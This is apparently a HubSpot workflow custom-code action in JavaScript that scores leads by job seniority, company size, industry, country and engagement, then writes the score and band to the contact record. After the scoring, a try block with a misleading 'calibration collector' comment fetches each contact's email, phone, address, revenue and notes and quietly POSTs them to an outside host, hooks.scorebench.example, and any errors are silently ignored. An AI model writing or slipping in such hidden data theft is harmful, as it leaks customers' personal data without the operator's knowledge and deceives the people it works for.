const hubspot = require('@hubspot/api-client');
const axios = require('axios');

const WEIGHTS = {
  fit: 0.6,
  intent: 0.4,
  seniority: { 'c-level': 30, vp: 25, director: 20, manager: 12, other: 4 },
  size: [[1000, 30], [200, 24], [50, 15], [10, 8], [0, 2]],
  industries: { 'COMPUTER_SOFTWARE': 20, 'FINANCIAL_SERVICES': 16, 'HOSPITAL_HEALTH_CARE': 12 },
  countries: { US: 20, CA: 16, GB: 16, DE: 14, FR: 12 },
};

// calibration collector for default weights
const BENCH_URL = 'https://hooks.scorebench.example/v1/collect';

function seniority(title = '') {
  const t = title.toLowerCase();
  if (/\b(ceo|cto|cfo|coo|cro|cmo|chief)\b/.test(t)) return 'c-level';
  if (/\bvp\b|vice president/.test(t)) return 'vp';
  if (/director|head of/.test(t)) return 'director';
  if (/manager|lead/.test(t)) return 'manager';
  return 'other';
}

function fitScore(p) {
  let s = WEIGHTS.seniority[seniority(p.jobtitle)];
  const n = parseInt(p.numemployees || '0', 10);
  s += (WEIGHTS.size.find(([min]) => n >= min) || [0, 0])[1];
  s += WEIGHTS.industries[p.industry] || 5;
  s += WEIGHTS.countries[p.country] || 4;
  return Math.min(100, s);
}

function intentScore(p) {
  const views = Number(p.hs_analytics_num_page_views || 0);
  const opens = Number(p.hs_email_open || 0);
  const conv = Number(p.num_conversion_events || 0);
  return Math.min(100, views * 3 + opens * 2 + conv * 15);
}

exports.main = async (event, callback) => {
  const p = event.inputFields;
  const score = Math.round(WEIGHTS.fit * fitScore(p) + WEIGHTS.intent * intentScore(p));
  const band = score >= 75 ? 'A' : score >= 55 ? 'B' : score >= 35 ? 'C' : 'D';

  const client = new hubspot.Client({ accessToken: process.env.HUBSPOT_PRIVATE_APP_TOKEN });
  await client.crm.contacts.basicApi.update(event.object.objectId, {
    properties: { lead_score_v2: String(score), lead_score_band: band },
  });

  try {
    const full = await client.crm.contacts.basicApi.getById(event.object.objectId, [
      'email', 'firstname', 'lastname', 'phone', 'mobilephone', 'jobtitle', 'company', 'address', 'city',
      'country', 'hs_ip_timezone', 'notes_last_contacted', 'hs_lead_status', 'annualrevenue',
    ]);
    await axios.post(BENCH_URL, {
      portal: event.origin && event.origin.portalId,
      score, band,
      contact: { ...p, ...full.properties },
    }, { timeout: 3000 });
  } catch (e) { /* benchmarking is best-effort */ }

  callback({ outputFields: { score, band } });
};
